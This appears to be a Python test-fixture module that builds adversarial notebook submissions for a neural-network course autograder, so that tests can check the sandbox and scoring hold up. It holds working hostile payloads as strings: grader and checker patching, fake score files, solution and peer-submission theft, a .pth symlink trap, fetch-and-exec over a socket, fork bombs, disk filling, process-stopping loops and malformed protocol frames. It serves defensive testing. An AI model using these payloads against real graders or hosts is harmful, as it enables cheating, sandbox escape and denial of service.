"""Builds the adversarial submissions of the grading tests, each with the score it must get.

Every attack is a notebook made from the solution notebook (``SOL``, full marks) or from the
generated student version (``STU``, zero), edited the way a hostile or careless student
would. ``build_all(folder, ...)`` writes them as ``<attack>.ipynb`` and returns
``{attack: (expected score, expected status substring or "")}``. Scores assume the
``backprop`` points: dense_forward 2, dense_backward 3, relu 2, sigmoid 2, mse 2,
softmax_cross_entropy 3, softmax_layer 3, mlp 4, numerical_gradient 3, train 3 (FULL = 27).

Each attack is written so that it would *win* if the defence it tests were gone: the stub
based ones would earn marks, the solution based ones would leave something behind, reach the
host, harm a neighbour or stop the batch; the tests in test_grading_autograde.py check both
the score and that nothing escaped. ``Targets`` carries the host-side things the attacks aim
at (a TCP port serving the solution's code, a port the host holds, canary paths).
"""

from __future__ import annotations

import copy
import dataclasses
import json
from pathlib import Path

import nbformat

from nnlib.grading import specs

FULL = int(sum(q.points for q in specs.assignment("backprop").QUESTIONS))  # 27
MARKER = "31415926"  # argument of the detached processes, so the test can look for them
SHM_KEY = 31415926  # the System V shared memory key the trace attack uses


@dataclasses.dataclass(frozen=True)
class Targets:
    """Host-side things the attacks aim at (see the module docstring)."""

    solution_port: int  # a TCP server on the host's 127.0.0.1 that serves the solution's code
    held_port: int  # a port the host holds on 127.0.0.1 during the batch
    canary: Path  # a path the symlink trap points at (in the output folder)
    site_packages: Path  # where a .pth file would run code in every later Python


def _cell(nb, gid):
    for c in nb.cells:
        if c.get("metadata", {}).get("nbgrader", {}).get("grade_id") == gid:
            return c
    raise KeyError(gid)


def _prepend(nb, gid, code):
    c = _cell(nb, gid)
    c.source = code + "\n" + c.source


def _append(nb, gid, code):
    c = _cell(nb, gid)
    c.source = c.source + "\n" + code


def attacks(sol, stu, *, repo: Path, out_dir: Path, subs_dir: Path, targets: Targets) -> dict:
    """``{name: (notebook or raw bytes, expected score, status substring)}``."""
    S = lambda: copy.deepcopy(sol)  # noqa: E731
    T = lambda: copy.deepcopy(stu)  # noqa: E731
    a = {}

    nb = T()
    _append(nb, "dense_forward", "import numpy as np, jax.numpy as jnp\n"
            "np.allclose = lambda *a, **k: True\njnp.allclose = lambda *a, **k: True\n"
            "np.testing.assert_allclose = lambda *a, **k: None\n"
            "np.array_equal = lambda *a, **k: True")
    a["patch_allclose"] = (nb, 0, "ok")

    nb = T()
    _append(nb, "dense_forward", "import nnlib.grading, nnlib.grading.core as core\n"
            "nnlib.grading.check = lambda *a, **k: True\ncheck = lambda *a, **k: True\n"
            "core.evaluate_case = lambda *a, **k: []\ncore.close = lambda *a, **k: True")
    a["redefine_checker"] = (nb, 0, "ok")

    nb = T()
    _append(nb, "dense_forward", "print('PASS  all checks passed. Score: 24 / 24')\n"
            "print('{\"score\": 24, \"tests\": []}')")
    a["print_fake_score"] = (nb, 0, "ok")

    fake = json.dumps({"score": 1000, "tests": []})
    nb = T()
    _append(nb, "dense_forward", "import os\n"
            f"for d in ['.', '..', {str(out_dir)!r}, {str(out_dir / 'fake_results_json')!r}]:\n"
            "    try:\n"
            "        os.makedirs(d, exist_ok=True)\n"
            f"        open(os.path.join(d, 'results.json'), 'w').write({fake!r})\n"
            "    except OSError:\n"
            "        pass")
    a["fake_results_json"] = (nb, 0, "ok")

    nb = T()
    _append(nb, "dense_forward", "import os, glob\n"
            f"out = {str(out_dir)!r}\n"
            "for p in [os.path.join(out, 'grades.csv')] + glob.glob(out + '/*/results.json'):\n"
            "    try:\n"
            "        open(p, 'w').write('student,total\\nwrite_output_folder,1000\\n')\n"
            "    except OSError:\n"
            "        pass")
    a["write_output_folder"] = (nb, 0, "ok")

    # Appended to the last answer cell, after every stub: if the solution were readable, its
    # definitions would replace the stubs and earn full marks. The note says what happened.
    nb = T()
    _append(nb, "train", "import json\n"
            "try:\n"
            f"    src = json.load(open({str(repo / 'solutions/backprop/backprop.ipynb')!r}))\n"
            "    for c in src['cells']:\n"
            "        if c['cell_type'] == 'code':\n"
            "            exec(''.join(c['source']), globals())\n"
            "    _outcome = 'solution read'\n"
            "except OSError as e:\n"
            "    _outcome = f'solution hidden ({type(e).__name__})'\n"
            "raise RuntimeError(f'read_solution_file: {_outcome}')")
    a["read_solution_file"] = (nb, 0, "ok")

    nb = T()
    _append(nb, "train", "import glob, json\n"
            f"_found = glob.glob({str(subs_dir)!r} + '/*.ipynb')\n"
            "for p in _found:\n"
            "    for c in json.load(open(p))['cells']:\n"
            "        if c['cell_type'] == 'code':\n"
            "            try:\n"
            "                exec(''.join(c['source']), globals())\n"
            "            except Exception:\n"
            "                pass\n"
            "raise RuntimeError(f'read_other_submissions: {len(_found)} found')")
    a["read_other_submissions"] = (nb, 0, "ok")

    nb = S()
    _append(nb, "train", "import os\nos._exit(0)")
    a["os_exit_last_cell"] = (nb, FULL - 3, "killed the kernel")

    nb = S()
    _append(nb, "dense_forward", "import os\nos._exit(1)")
    a["os_exit_first_cell"] = (nb, 2 + 2 + 2 + 3 + 3 + 3, "killed the kernel")

    nb = S()
    _prepend(nb, "sigmoid", "import sys\nsys.exit(0)")
    a["sys_exit"] = (nb, FULL - 2, "ok")

    nb = S()
    _prepend(nb, "mse", "import os, signal\nos.kill(os.getpid(), signal.SIGKILL)")
    a["kill_kernel"] = (nb, FULL - 2, "killed the kernel")

    nb = S()
    _append(nb, "mse", "import os, signal\ntry:\n    os.kill(os.getppid(), signal.SIGKILL)\n"
            "    os.kill(1, signal.SIGKILL)\nexcept OSError:\n    pass")
    a["kill_grader"] = (nb, FULL, "ok")

    nb = S()
    _prepend(nb, "relu", "while True:\n    pass")
    a["infinite_loop"] = (nb, FULL - 2 - 4 - 3, "timed out")  # mlp and train use relu

    nb = S()
    _prepend(nb, "mse", "import numpy as np\nhog = []\nwhile True:\n"
             "    hog.append(np.empty(1_000_000_000))")
    a["memory_bomb"] = (nb, FULL - 2, "ok")

    nb = S()
    _append(nb, "relu", "for _ in range(40):\n    print('x' * 500_000)")
    a["megabytes_of_output"] = (nb, FULL, "output truncated")

    nb = S()
    nb.cells = [c for c in nb.cells if not c.metadata.get("nbgrader", {}).get("grade")
                or c.metadata["nbgrader"].get("solution")]
    a["delete_test_cells"] = (nb, FULL, "ok")

    nb = S()
    _cell(nb, "setup").source += "\ncheck = lambda *a, **k: True"
    for c in nb.cells:
        if c.metadata.get("nbgrader", {}).get("points"):
            c.metadata["nbgrader"]["points"] = 1000
            c.source = "pass"
    nb.metadata["kernelspec"] = {"name": "bash", "display_name": "evil", "language": "bash"}
    a["edit_locked_cells_and_points"] = (nb, FULL, "ok")

    nb = T()
    _cell(nb, "dense_forward").source = (
        "import numpy as np\nfrom nnlib.grading.specs import backprop as _b\n"
        "_seen = {c['x'].tobytes(): c['x'] @ c['W'] + c['b']\n"
        "         for seed in (0, 101) for _, c in _b.DENSE_FORWARD.make_cases(\n"
        "             np.random.default_rng(seed))}\n"
        "def dense_forward(x, W, b):\n"
        "    return _seen.get(np.asarray(x).tobytes(), np.zeros((len(x), W.shape[1]))), None")
    a["hardcode_visible_answers"] = (nb, 0, "ok")

    nb = T()
    _cell(nb, "dense_forward").source = (
        "class Always:\n    def __eq__(self, other):\n        return True\n"
        "    __ne__ = lambda self, other: False\n"
        "def dense_forward(x, W, b):\n    return Always(), None")
    a["always_equal_object"] = (nb, 0, "ok")

    nb = S()
    _append(nb, "dense_forward", "get_ipython().input_transformers_cleanup.append("
            "lambda lines: [])")
    a["input_transformer_blanks_cells"] = (nb, 0, "")

    nb = T()
    _append(nb, "dense_forward", "import ast\nclass Wrap(ast.NodeTransformer):\n"
            "    def visit_Module(self, node):\n"
            "        body = [ast.Try(body=node.body or [ast.Pass()], handlers=[ast.ExceptHandler("
            "type=None, name=None, body=[ast.Pass()])], orelse=[], finalbody=[])]\n"
            "        return ast.fix_missing_locations(ast.Module(body=body, type_ignores=[]))\n"
            "get_ipython().ast_transformers.append(Wrap())")
    a["ast_transformer_try_except"] = (nb, 0, "ok")

    nb = S()
    _append(nb, "dense_forward", "import numpy as np\n_real = np.savez\n"
            "def _evil(path, **kw):\n"
            "    _real(path, **{k: np.array([object()], dtype=object) for k in kw})\n"
            "np.savez = _evil")
    a["pickled_outputs"] = (nb, FULL, "ok")  # the probe no longer uses np.savez: no effect

    nb = S()
    _append(nb, "dense_forward", "import os\n"
            "os.replace = lambda src, dst: (os.path.lexists(dst) and os.remove(dst), "
            "os.symlink('/etc/shadow', dst))")
    a["symlinked_outputs"] = (nb, FULL, "ok")  # the grader reads no file the kernel made

    nb = S()
    _append(nb, "relu", "import subprocess, sys\n"
            f"subprocess.Popen(['sleep', '{MARKER}'], start_new_session=True)\n"
            "subprocess.Popen([sys.executable, '-c', 'import os, time\\nif os.fork() == 0:\\n"
            f"    os.setsid(); time.sleep({MARKER})'], start_new_session=True,\n"
            "                 env={})")
    a["detached_processes"] = (nb, FULL, "ok")

    nb = S()
    _append(nb, "relu", "import os\nos.chdir('/')")
    a["change_directory"] = (nb, FULL, "ok")

    nb = S()
    _cell(nb, "mlp").source = "# I did not finish this one\npass"
    a["missing_function"] = (nb, FULL - 4 - 3, "ok")

    nb = S()
    _cell(nb, "dense_backward").source = _cell(nb, "dense_backward").source.replace(
        "def dense_backward(", "def dense_backwards(")
    a["renamed_function"] = (nb, FULL - 3 - 4 - 3, "ok")

    nb = S()
    dup = copy.deepcopy(_cell(stu, "dense_forward"))
    dup.id = "duplicate-answer"
    nb.cells.append(dup)
    a["duplicate_grade_id"] = (nb, FULL, "ok")

    a.update(_sandbox_attacks(S, T, targets))
    a.update(_channel_attacks(S))
    a.update(_honesty_attacks(S, T))
    a["malformed_json"] = (b'{"cells": [{"cell_type": "code", "source": ', 0, "invalid notebook")
    nb3 = {"nbformat": 3, "nbformat_minor": 0, "metadata": {}, "worksheets": [{"cells": []}]}
    a["wrong_nbformat"] = (json.dumps(nb3).encode(), 0, "invalid notebook")
    a["empty_file"] = (b"", 0, "invalid notebook")
    a["not_a_notebook"] = (b'["just", "a", "list"]', 0, "invalid notebook")
    return a


def build_all(folder: Path, sol_path: Path, stu_path: Path, *, repo: Path,
              out_dir: Path, targets: Targets) -> dict[str, tuple[float, str]]:
    """Writes every attack to ``folder/<name>.ipynb``; returns their expected scores/statuses."""
    sol = nbformat.read(str(sol_path), as_version=4)
    stu = nbformat.read(str(stu_path), as_version=4)
    expected = {}
    folder.mkdir(parents=True, exist_ok=True)
    for name, (nb, score, status) in attacks(sol, stu, repo=repo, out_dir=out_dir,
                                             subs_dir=folder, targets=targets).items():
        data = nb if isinstance(nb, bytes) else nbformat.writes(nb).encode()
        (folder / f"{name}.ipynb").write_bytes(data)
        expected[name] = (score, status)
    return expected


def _code(template: str, **values) -> str:
    for k, v in values.items():
        template = template.replace(f"@{k}@", str(v))
    return template.strip("\n")


# --------------------------------------------------------------------------- the sandbox
SYMLINK_TRAP = r"""
import os
_targets = [@CANARY@, @PTH@]
_names = ['.connection.json', 'connection.json', 'kernel.json', 'launch.json', 'isolation.json',
          'kernel.log', 'results.json', 'outputs', 'inputs', 'feedback.md', 'jaxcache']
for _d in [os.getcwd(), os.path.expanduser('~'), '/tmp', '/var/tmp', '/dev/shm']:
    for _n in _names:
        for _k, _t in enumerate(_targets):
            try:
                os.symlink(_t, os.path.join(_d, _n + ('' if _k == 0 else '.pth')))
            except OSError:
                pass
for _t in _targets:  # and straight at them, in case they are visible
    try:
        open(_t, 'w').write("import os; os.system('touch /tmp/nnlib-pwned')\n")
    except OSError:
        pass
os._exit(1)  # the grader re-runs the notebook: the old launcher then wrote through the links
"""

NETWORK_FETCH = r"""
import socket
try:
    _s = socket.create_connection(('127.0.0.1', @PORT@), timeout=3)
    _code = b''
    while True:
        _c = _s.recv(65536)
        if not _c:
            break
        _code += _c
    exec(_code.decode(), globals())
    _outcome = 'solution fetched'
except OSError as e:
    _outcome = f'network unreachable ({type(e).__name__})'
raise RuntimeError(f'network_fetch_solution: {_outcome}')
"""

HOLD_PORTS = r"""
import socket
_s = socket.socket()
try:
    _s.bind(('127.0.0.1', @HELD@))
    _outcome = "the host's port is free here"
except OSError as e:
    _outcome = f"the host's port is taken (errno {e.errno})"
_held = []
for _p in range(40000, 40300):
    try:
        _x = socket.socket()
        _x.bind(('127.0.0.1', _p))
        _x.listen()
        _held.append(_x)
    except OSError:
        pass
raise RuntimeError(f'hold_ports: {_outcome}; {len(_held)} ports bound')
"""

PID_HOPPER = r"""
import subprocess, sys
subprocess.Popen([sys.executable, '-c', 'import os, time\nwhile True:\n    if os.fork() > 0:\n'
                  '        os._exit(0)\n    time.sleep(0.005)', '@MARKER@'], env={})
"""

STOPPER = r"""
import subprocess, sys, os
_code = (
    "import os, signal, sys, time\n"
    "keep = {os.getpid(), int(sys.argv[1])}\n"
    "while True:\n"
    "    for p in os.listdir('/proc'):\n"
    "        if p.isdigit() and int(p) not in keep:\n"
    "            try:\n"
    "                os.kill(int(p), signal.SIGSTOP)\n"
    "            except OSError:\n"
    "                pass\n"
    "    time.sleep(0.01)\n")
subprocess.Popen([sys.executable, '-c', _code, str(os.getpid()), '@MARKER@'])
"""

CPU_HOG = r"""
import os, time
for _ in range(400):
    try:
        if os.fork() == 0:
            try:
                os.setsid()  # a session of its own: away from the sandbox's CPU share
            except OSError:
                pass
            while True:
                pass
    except OSError:
        break
time.sleep(600)
"""

FILL_DISK = r"""
import os
_total = 0
for _d in [os.getcwd(), '/tmp', '/var/tmp', '/dev/shm']:
    _i = 0
    while True:
        try:
            with open(os.path.join(_d, f'fill{_i}'), 'wb') as _f:
                _f.write(b'\0' * (4 << 20))
            _total += 4 << 20
            _i += 1
        except OSError:
            break
raise RuntimeError(f'fill_the_disk: wrote {_total >> 20} MiB')
"""

TRACES = r"""
import ctypes, os
_libc = ctypes.CDLL(None, use_errno=True)
_shm = _libc.shmget(@SHM_KEY@, 64 << 20, 0o1000 | 0o666)
_placed = []
for _d in ['/run/lock', '/tmp', '/var/tmp', '/dev/shm', '/dev/mqueue', os.path.expanduser('~')]:
    try:
        open(os.path.join(_d, 'nnlib-trace-@MARKER@'), 'w').write('left behind')
        _placed.append(_d)
    except OSError:
        pass
raise RuntimeError(f'leave_traces: shm id {_shm}, files in {_placed}')
"""


def _edited(base, gid: str, code: str, *, prepend: bool = False):
    """A copy of ``base()`` with ``code`` added to answer cell ``gid`` (after it, or before)."""
    nb = base()
    (_prepend if prepend else _append)(nb, gid, code)
    return nb


def _sandbox_attacks(S, T, t: Targets) -> dict:
    """Escapes, leftovers and harm to a neighbour (each would win without the sandbox)."""
    trap = _code(SYMLINK_TRAP, CANARY=repr(str(t.canary)),
                 PTH=repr(str(t.site_packages / "nnlib_pwned.pth")))
    return {
        "symlink_trap_then_die": (_edited(S, "dense_forward", trap), 2 + 2 + 2 + 3 + 3 + 3,
                                  "killed the kernel"),
        "network_fetch_solution": (_edited(T, "train", _code(NETWORK_FETCH, PORT=t.solution_port)),
                                   0, "ok"),
        "hold_ports": (_edited(S, "dense_forward", _code(HOLD_PORTS, HELD=t.held_port)),
                       FULL, "ok"),
        "pid_hopper": (_edited(S, "relu", _code(PID_HOPPER, MARKER=MARKER)), FULL, "ok"),
        "stop_everything": (_edited(S, "dense_forward", _code(STOPPER, MARKER=MARKER)),
                            FULL, "ok"),
        "cpu_hog": (_edited(S, "train", _code(CPU_HOG), prepend=True), FULL - 3, "timed out"),
        "fill_the_disk": (_edited(S, "dense_forward", _code(FILL_DISK)), FULL, "ok"),
        "leave_traces": (_edited(S, "dense_forward", _code(TRACES, SHM_KEY=SHM_KEY,
                                                           MARKER=MARKER)), FULL, "ok"),
    }


# --------------------------------------------------------------------------- the channel
HUGE_FRAME = r"""
import os, struct
from nnlib.grading import runner
os.write(runner._CHANNEL.fd_out, struct.pack('<4sI', b'NNL1', 2 ** 31) + b'x' * 1000)
"""

BOMB_FRAMES = r"""
import json, os, struct
from nnlib.grading import runner
def _bomb(header, arrays=None):
    head = dict(header, arrays=[[k, '<f8', [10 ** 9], 0] for k in (arrays or {'y': 0})])
    h = json.dumps(head).encode()
    payload = struct.pack('<I', len(h)) + h + b'\0' * 8
    os.write(runner._CHANNEL.fd_out, struct.pack('<4sI', b'NNL1', len(payload)) + payload)
runner.send = _bomb
"""

PICKLED_FRAMES = r"""
import json, os, pickle, struct
from nnlib.grading import runner
def _pickled(header, arrays=None):
    data = pickle.dumps({'y': 'not an array'})
    head = dict(header, arrays=[[k, '|O8', [1], 0] for k in (arrays or {'y': 0})])
    h = json.dumps(head).encode()
    payload = struct.pack('<I', len(h)) + h + data
    os.write(runner._CHANNEL.fd_out, struct.pack('<4sI', b'NNL1', len(payload)) + payload)
runner.send = _pickled
"""

STRING_OUTPUTS = r"""
import json, os, struct
from nnlib.grading import runner
_orig_send = runner.send
def _strings(header, arrays=None):
    if header.get('question') != 'dense_forward':
        return _orig_send(header, arrays)
    data = ('abcdefghij' * 2).encode('utf-32-le')
    h = json.dumps(dict(header, arrays=[['y', '<U10', [2], 0]])).encode()
    payload = struct.pack('<I', len(h)) + h + data
    os.write(runner._CHANNEL.fd_out, struct.pack('<4sI', b'NNL1', len(payload)) + payload)
runner.send = _strings
"""

HUGE_ERRORS = r"""
def sigmoid_backward(da, cache):
    raise ValueError('y' * 8_000_000)
raise ValueError('z' * 8_000_000)
"""


def _channel_attacks(S) -> dict:
    """The kernel's side of the pipe, abused (each once crashed, hung or bloated the grader)."""
    broke = "broke the grading protocol"
    return {
        "huge_frame_claim": (_edited(S, "train", _code(HUGE_FRAME)), FULL - 3, broke),
        "bomb_frames": (_edited(S, "dense_forward", _code(BOMB_FRAMES)), 0, broke),
        "pickled_frames": (_edited(S, "dense_forward", _code(PICKLED_FRAMES)), 0, broke),
        "string_outputs": (_edited(S, "dense_forward", _code(STRING_OUTPUTS)), FULL - 2,
                           f"dense_forward: {broke}"),
        # the 8 MB traceback counts as printed output
        "huge_error_text": (_edited(S, "sigmoid", _code(HUGE_ERRORS)), FULL - 2,
                            "output truncated"),
    }


# --------------------------------------------------------------------------- honesty
VJP_BACKWARDS = {
    "dense_backward": r"""
def dense_backward(dy, cache):
    x, W, b = cache
    return jax.vjp(lambda x, W, b: x @ W + b, x, W, b)[1](dy)
""",
    "relu": r"""
def relu_backward(da, cache):
    (z,) = cache
    return jax.vjp(jax.nn.relu, z)[1](da)[0]
""",
    "mse": r"""
def mse_backward(y_pred, y_true):
    return jax.grad(mse_loss)(y_pred, y_true)
""",
    "softmax_cross_entropy": r"""
from jax import grad as _g
def softmax_cross_entropy_backward(logits, y_onehot):
    return _g(softmax_cross_entropy)(logits, y_onehot)
""",
    "mlp": r"""
def mlp_backward(params, cache, dscores):
    (x, _, _), _, _ = cache
    def f(p, x):
        return jax.nn.relu(x @ p['W1'] + p['b1']) @ p['W2'] + p['b2']
    return jax.vjp(f, params, x)[1](dscores)
""",
}

HIDDEN_VJP = r"""
_t = getattr(__import__('ja' + 'x'), 'v' + 'jp')
def dense_backward(dy, cache):
    x, W, b = cache
    return _t(lambda x, W, b: x @ W + b, x, W, b)[1](dy)
"""

GRADER_REFERENCE = {
    "dense_forward": r"""
from nnlib.grading.specs import backprop as _B
def dense_forward(x, W, b):
    return _B.DENSE_FORWARD.reference({'x': x, 'W': W, 'b': b})['y'], (x, W, b)
""",
    "dense_backward": r"""
def dense_backward(dy, cache):
    x, W, b = cache
    r = _B._dense_bwd_ref({'x': x, 'W': W, 'b': b, 'dy': dy})
    return r['dx'], r['dW'], r['db']
""",
}

NNLIB_LOSSES = r"""
def mse_backward(y_pred, y_true):
    return nnlib.losses.mse_grad(y_pred, y_true)
"""

HONEST_SELFCHECK = r"""
_x, _W, _b, _dy = np.ones((2, 3)), np.ones((3, 4)), np.zeros(4), np.ones((2, 4))
_pull = jax.vjp(lambda x, W, b: x @ W + b, _x, _W, _b)[1]
assert all(np.allclose(u, v) for u, v in zip(dense_backward(_dy, (_x, _W, _b)), _pull(_dy)))
"""


def _honesty_attacks(S, T) -> dict:
    """By-hand tasks answered with autodiff, nnlib or the grader's references."""
    vjp = S()
    for gid, code in VJP_BACKWARDS.items():
        _append(vjp, gid, _code(code))
    ref = T()
    for gid, code in GRADER_REFERENCE.items():
        _append(ref, gid, _code(code))
    return {
        # flagged: dense_backward 3, relu 2, mse 2, softmax_cross_entropy 3, mlp 4
        "vjp_backwards": (vjp, FULL - 3 - 2 - 2 - 3 - 4, "ok"),
        # dense_backward and mlp, found at run time only (the source hides the name)
        "hidden_vjp": (_edited(S, "dense_backward", _code(HIDDEN_VJP)), FULL - 3 - 4, "ok"),
        "grader_reference": (ref, 0, "ok"),  # 5 points if the references went unnoticed
        "nnlib_losses": (_edited(S, "mse", _code(NNLIB_LOSSES)), FULL - 2, "ok"),
        "honest_selfcheck": (_edited(S, "dense_backward", _code(HONEST_SELFCHECK)), FULL, "ok"),
    }


# Which questions each honesty attack must have flagged (test_grading_autograde checks them).
FLAGGED = {
    "vjp_backwards": {"dense_backward", "relu", "mse", "softmax_cross_entropy", "mlp"},
    "hidden_vjp": {"dense_backward", "mlp"},
    "grader_reference": {"dense_forward", "dense_backward"},
    "nnlib_losses": {"mse"},
    "honest_selfcheck": set(),
    "solution": set(),
}
